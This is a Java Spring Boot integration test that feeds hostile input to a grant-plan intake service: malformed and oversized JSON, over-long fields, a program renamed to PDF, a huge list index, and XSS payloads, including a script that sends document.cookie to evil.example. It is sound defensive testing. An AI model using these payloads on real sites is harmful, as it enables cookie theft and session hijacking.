package nexus.intake.plan;

import static nexus.intake.plan.PlanFixtures.applicantOf;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.put;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.flash;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.header;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import nexus.intake.document.DocumentFixtures;
import nexus.testsupport.WithEmbeddedInfrastructure;
import org.bson.Document;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
import org.springframework.data.mongodb.core.MongoTemplate;
import org.springframework.http.MediaType;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.test.web.servlet.MockMvc;

/**
 * Hostile input through the API and the pages: each gets a clear 4xx in the user's language and
 * nothing stored; text with markup is kept as text and shown escaped.
 */
@SpringBootTest(
    properties = {
      "spring.config.name=intake-service",
      "nexus.messaging.outbox.relay-enabled=false"
    })
@WithEmbeddedInfrastructure
@AutoConfigureMockMvc
class HostileInputIT {

  private static final String TEN_MB = "x".repeat(10 * 1024 * 1024);

  @Autowired MockMvc mvc;
  @Autowired MongoTemplate mongo;

  @Test
  void malformedJsonIsABadRequestAndChangesNothing() throws Exception {
    String id = draft("INST-H1");
    mvc.perform(
            put("/api/drafts/" + id)
                .with(applicantOf("INST-H1"))
                .contentType(MediaType.APPLICATION_JSON)
                .content("{\"title\": \"half"))
        .andExpect(status().isBadRequest())
        .andExpect(header().string("Content-Type", containsString("application/problem+json")))
        .andExpect(jsonPath("$.title").value("入力内容に誤りがあります"));
    assertThat(plan(id).getString("title")).isEqualTo("Original");
  }

  @Test
  void aValueOfTheWrongTypeIsNamedByItsPath() throws Exception {
    String id = draft("INST-H2");
    mvc.perform(
            put("/api/drafts/" + id)
                .param("lang", "en")
                .with(applicantOf("INST-H2"))
                .contentType(MediaType.APPLICATION_JSON)
                .content(
                    "{\"title\":\"T\",\"content\":{\"budgetItems\":"
                        + "[{\"category\":\"TRAVEL\",\"description\":\"x\",\"amountJpy\":\"lots\"}]}}"))
        .andExpect(status().isBadRequest())
        .andExpect(jsonPath("$.errors[0].field").value("content.budgetItems[0].amountJpy"))
        .andExpect(
            jsonPath("$.errors[0].message").value("This value has the wrong type or format."));
    mvc.perform(
            put("/api/drafts/" + id)
                .with(applicantOf("INST-H2"))
                .contentType(MediaType.APPLICATION_JSON)
                .content("{\"title\":[1,2],\"content\":null}"))
        .andExpect(status().isBadRequest());
    assertThat(plan(id).getString("title")).isEqualTo("Original");
    assertThat(plan(id).get("content")).isNull();
  }

  @Test
  void tenMegabytesOfTextAreRefusedBeforeTheyAreReadThroughTheApiAndThePages() throws Exception {
    String id = draft("INST-H3");
    mvc.perform(
            put("/api/drafts/" + id)
                .param("lang", "en")
                .with(applicantOf("INST-H3"))
                .contentType(MediaType.APPLICATION_JSON)
                .content("{\"title\":\"" + TEN_MB + "\"}"))
        .andExpect(status().isContentTooLarge())
        .andExpect(jsonPath("$.title").value("Request too large"));
    mvc.perform(
            post("/plans/" + id + "/edit/outlook")
                .with(applicantOf("INST-H3"))
                .contentType(MediaType.APPLICATION_FORM_URLENCODED)
                .content("expectedOutcomes=" + TEN_MB))
        .andExpect(status().isContentTooLarge());
    assertThat(plan(id).getString("title")).isEqualTo("Original");
    assertThat(plan(id).get("content")).isNull();
  }

  @Test
  void textOverAFieldsLimitIsRefusedBesideTheField() throws Exception {
    String id = draft("INST-H4");
    String tooLong = "y".repeat(8001);
    mvc.perform(
            put("/api/drafts/" + id)
                .param("lang", "en")
                .with(applicantOf("INST-H4"))
                .contentType(MediaType.APPLICATION_JSON)
                .content(
                    "{\"title\":\"T\",\"content\":{\"expectedOutcomes\":\"" + tooLong + "\"}}"))
        .andExpect(status().isBadRequest())
        .andExpect(jsonPath("$.errors[0].field").value("content.expectedOutcomes"))
        .andExpect(jsonPath("$.errors[0].message").value("At most 8000 characters."));
    mvc.perform(
            post("/plans/" + id + "/edit/outlook")
                .param("lang", "en")
                .param("expectedOutcomes", tooLong)
                .with(applicantOf("INST-H4")))
        .andExpect(status().isOk())
        .andExpect(
            content()
                .string(
                    containsString("data-field=\"expectedOutcomes\">At most 8000 characters.")));
    assertThat(plan(id).get("content")).isNull();
  }

  @Test
  void scriptInTextIsStoredAsTextAndShownEscaped() throws Exception {
    String id = draft("INST-H5");
    String script = "<script>document.location='https://evil.example/'+document.cookie</script>";
    mvc.perform(
            put("/api/drafts/" + id)
                .with(applicantOf("INST-H5"))
                .contentType(MediaType.APPLICATION_JSON)
                .content(
                    "{\"title\":\""
                        + script.replace("'", "\\u0027")
                        + "\",\"content\":"
                        + "{\"participants\":[{\"name\":\"<img src=x onerror=alert(1)>\"}]}}"))
        .andExpect(status().isOk());
    assertThat(plan(id).getString("title")).isEqualTo(script);
    mvc.perform(get("/plans/" + id).with(applicantOf("INST-H5")))
        .andExpect(content().string(containsString("&lt;script&gt;document.location=")))
        .andExpect(content().string(org.hamcrest.Matchers.not(containsString("<script>document"))));
    mvc.perform(get("/plans/" + id + "/edit/participants").with(applicantOf("INST-H5")))
        .andExpect(content().string(containsString("&lt;img src=x onerror=alert(1)&gt;")))
        .andExpect(content().string(org.hamcrest.Matchers.not(containsString("<img src=x"))));
  }

  @Test
  void aProgramRenamedPdfIsRefusedOnThePageAndNothingIsStored() throws Exception {
    String id = draft("INST-H6");
    mvc.perform(
            multipart("/plans/" + id + "/documents")
                .file(
                    new MockMultipartFile(
                        "file", "plan.pdf", "application/pdf", DocumentFixtures.exe()))
                .param("kind", "PLAN")
                .param("lang", "en")
                .with(applicantOf("INST-H6")))
        .andExpect(status().is3xxRedirection())
        .andExpect(
            flash()
                .attribute(
                    "uploadError",
                    org.hamcrest.Matchers.hasEntry(
                        org.hamcrest.Matchers.equalTo("PLAN"),
                        org.hamcrest.Matchers.startsWith(
                            "Only PDF, Word and Excel files are accepted"))));
    assertThat(mongo.getCollection("fs.files").countDocuments(new Document("metadata.planId", id)))
        .isZero();
  }

  @Test
  void aHugeRowIndexIsRefusedWithoutGrowingAList() throws Exception {
    String id = draft("INST-H7");
    mvc.perform(
            post("/plans/" + id + "/edit/participants")
                .param("participants[100000].name", "x")
                .with(applicantOf("INST-H7")))
        .andExpect(status().is4xxClientError());
    assertThat(plan(id).get("content")).isNull();
  }

  private String draft(String institution) throws Exception {
    return DraftSubmissions.start(
        mvc, applicantOf(institution), "ytec-2025", "YOUNG_TALENT", "Original", null);
  }

  private Document plan(String id) {
    return mongo.getCollection("plans").find(new Document("_id", id)).first();
  }
}
